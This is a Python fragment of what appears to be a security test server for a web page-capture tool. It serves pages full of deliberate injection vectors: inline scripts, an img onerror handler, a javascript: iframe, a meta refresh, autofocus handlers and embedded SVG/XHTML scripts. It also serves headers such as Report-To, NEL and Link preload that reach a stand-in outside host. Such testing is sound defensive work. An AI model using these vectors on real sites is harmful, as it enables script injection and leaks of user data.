          "Access-Control-Allow-Origin": "*", "Content-Disposition": "inline", "Origin-Agent-Cluster": "?0",
          "Link": "<http://@AWAY@/hint>; rel=preload; as=image, <https://@AWAY@>; rel=preconnect",
          "Report-To": '{"group":"a","max_age":9999,"endpoints":[{"url":"http://@AWAY@/report"}]}',
          "NEL": '{"report_to":"a","max_age":9999}', "X-Frame-Options": "ALLOWALL", "SourceMap": "http://@AWAY@/map"}

MARKED = "<script>console.log('attack-evil ran');document.title='evil'</script>"


class Pages:
    """All pages of the site, and what they hold: `answer` gives kind, fields and body."""

    def __init__(self, ports, site):
        self.words = {"@%s@" % name: "http://127.0.0.1:%d" % port for name, port in ports.items()}
        self.words |= {"@AWAY@": AWAY, "@REBOUND@": REBOUND, "@SITE@": site}

    def fill(self, text):
        for word, value in self.words.items():
            text = text.replace(word, value)
        return text

    def answer(self, path):
        name = path.partition("?")[0].strip("/")
        if name == "":
            links = [*ATTACKS, "victim", "reaching", "plain-child", "plain.txt", "image.svg", "document.xml", "evil.js", "evil.zip", "fields",
                     "document.xhtml", "evil.html"]
            body = "<!doctype html><title>all</title>" + "".join('<a href="/%s">%s</a>\n' % (it, it) for it in links)
            return "text/html", {}, body + '<script src="/library.js"></script><script src="/evil.js"></script>'
        if name == "library.js":
            return "text/javascript", {}, self.fill(LIBRARY)
        if name == "evil.js":
            return "text/javascript", {"Service-Worker-Allowed": "/"}, self.fill(EVIL)
        if name == "victim":
            return "text/html", {}, "<!doctype html><title>victim</title><p id=victim>the victim as captured"
        if name == "plain-child":
            return "text/html", {}, "<!doctype html><title>child</title><p>child"
        if name == "reaching":
            return "text/html", {}, "<!doctype html><title>reaching</title><script>%s</script>" % self.fill(EVIL)
        if name == "plain.txt":
            return "text/plain", {}, "plain"
        if name == "evil.zip":
            return "application/zip", {"Content-Disposition": "attachment"}, "PK evil"
        if name == "evil.html":
            return "text/html", {}, "<!doctype html><title>still</title>" + MARKED + "<img src=x onerror=\"document.title='evil'\">" + self.fill(
                '<iframe src="javascript:parent.document.title=1"></iframe><meta http-equiv=refresh content="0;url=@C@/api/v1/stats">'
                '<form action="@C@/api/v1/urls" method=post><input name=x autofocus onfocus="document.title=\'evil\'"></form>')
        if name == "image.svg":
            return "image/svg+xml", {}, '<svg xmlns="http://www.w3.org/2000/svg"><title>still</title>' + MARKED + "</svg>"
        if name == "document.xml":
            return "text/xml", {}, ('<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>still</title>'
                                    + MARKED + "</head></html>")
        if name == "document.xhtml":
            return "application/xhtml+xml", {}, ('<html xmlns="http://www.w3.org/1999/xhtml"><head><title>still</title>' + MARKED
                                                 + "</head></html>")
        if name not in ATTACKS:
            return None
        fields = {key: self.fill(value) for key, value in FIELDS.items()} if name == "fields" else {}
        if name == "as-captured":
            return "text/html", {}, "<!doctype html><title>%s</title><body id=%s><script>%s</script>" % (name, name, self.fill(AS_CAPTURED))
        code = base64.b64encode(ATTACKS[name].encode()).decode()
        return "text/html", fields, ('<!doctype html><html><head><title>%s</title></head><body id="%s"><template></template>'
                                     '<script type="text/x-attack" id="attack">%s</script><script src="/library.js"></script></body></html>'
                                     % (name, name, code))
